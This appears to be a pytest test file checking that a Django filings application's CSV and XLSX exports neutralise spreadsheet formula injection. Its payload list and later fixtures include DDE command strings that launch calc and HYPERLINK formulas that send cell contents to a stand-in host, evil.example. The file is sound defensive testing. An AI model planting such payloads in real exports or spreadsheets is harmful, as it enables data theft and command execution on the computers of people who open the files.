"""No export re-emits a person's cell as a live formula; numbers and ordinary text come out unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assets.tape import TapeError, errors_to_csv, errors_to_xlsx
from audit.services import record_event
from audit.spreadsheet import safe_cell, xlsx_cell
from filings import services
from filings.models import Filing
from filings.waivers import request_waiver

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x0b=1+1",
    "|calc",
    "%0A=1+1",
]


@pytest.mark.parametrize("text", MALICIOUS)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-12.5, -3, 0, 1_000_000, "-12.50", "-1,234.5", "+86", "1.5", "中文", "A-1", "", None, "2026-12-06"],
)
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_an_xlsx_cell_cannot_carry_a_character_the_format_forbids():
    assert xlsx_cell("a\x00b\x1fc") == "a\ufffdb\ufffdc"
    assert xlsx_cell("\x01=1+1") == "'\ufffd=1+1"


def _tape_errors() -> list[TapeError]:
    return [
        TapeError("not_a_number", 4, "=cmd|'/C calc'!A0", "=1+2"),
        TapeError("not_a_number", 5, "未偿本金余额", "-12.50"),
    ]


def test_tape_error_csv_neutralises_formulas_and_keeps_numbers():
    rows = list(csv.reader(io.StringIO(errors_to_csv(_tape_errors()).decode("utf-8-sig"))))

    assert rows[1][:4] == ["4", "'=cmd|'/C calc'!A0", "'=1+2", "not_a_number"]
    assert rows[2][:4] == ["5", "未偿本金余额", "-12.50", "not_a_number"]


def test_tape_error_xlsx_neutralises_formulas_and_keeps_numbers():
    sheet = load_workbook(io.BytesIO(errors_to_xlsx(_tape_errors()))).worksheets[0]

    bad, good = list(sheet.iter_rows(min_row=2, max_row=3))
    assert [(c.value, c.data_type) for c in bad[:3]] == [
        (4, "n"),
        ("'=cmd|'/C calc'!A0", "s"),
        ("'=1+2", "s"),
    ]
    assert [(c.value, c.data_type) for c in good[:3]] == [(5, "n"), ("未偿本金余额", "s"), ("-12.50", "s")]
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.django_db
def test_audit_csv_neutralises_formulas_and_keeps_numbers(client, admin_user):
    record_event(action="test.export", actor='=HYPERLINK("http://evil.example")', filing_id=42, data={})
    record_event(action="test.export", actor="ops", filing_id=42, data={})
    client.force_login(admin_user)

    response = client.get("/audit/", {"filing": "42", "format": "csv"})

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    column = {name: index for index, name in enumerate(rows[0])}
    assert [row[column["actor"]] for row in rows[1:]] == ['\'=HYPERLINK("http://evil.example")', "ops"]
    assert [row[column["filing_id"]] for row in rows[1:]] == ["42", "42"]


@pytest.mark.django_db
def test_preflight_csv_neutralises_formulas_and_keeps_text(client, signatory, preparer, gapped_filing):
    services.update_section(
        filing_id=gapped_filing.pk,
        section="token",
        fields={"settlement_currency": "HKD"},
        rows={},
        expected_version=gapped_filing.token.version,
        by=preparer,
    )
    filing = Filing.objects.get(pk=gapped_filing.pk)
    justification = '=1+2-HYPERLINK("http://evil.example")'
    request_waiver(
        filing_id=filing.pk,
        rule_code="CONS-CURRENCY",
        field="token.settlement_currency",
        justification=justification,
        by=signatory,
    )
    client.force_login(signatory)

    response = client.get(reverse("filings:preflight_csv", args=[filing.reference]))

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    warning = next(r for r in rows if r["code"] == "CONS-CURRENCY")
    assert warning["waiver_justification"] == "'" + justification
    assert (warning["field"], warning["waiver_status"]) == ("token.settlement_currency", "pending")
